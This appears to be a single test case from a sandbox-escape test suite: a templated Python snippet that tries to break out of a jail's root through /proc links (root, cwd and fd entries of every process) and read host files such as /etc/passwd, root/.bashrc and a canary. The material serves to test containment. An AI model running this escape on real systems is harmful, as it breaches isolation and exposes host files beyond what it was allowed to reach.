# attack: escape the jail's root through /proc: /proc/self/root, /proc/1/root, /proc/*/cwd, /proc/*/fd links to directories, /proc/self/mountinfo's host paths; passes only if the host's /etc or the canary is reached
# cause: host
import os

reached = []
roots = ["/proc/self/root", "/proc/1/root", "/proc/thread-self/root"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        roots += [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]
        try:
            roots += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
for root in roots:
    for rel in ("etc/passwd", "{CANARY}".lstrip("/"), "root/.bashrc", "{CHECKOUT}/pyproject.toml".lstrip("/")):
        try:
            with open(os.path.join(root, rel), "rb") as fh:
                reached.append(fh.read(8))
        except OSError:
            pass


def f(x):
    return x + 1 if reached else 0
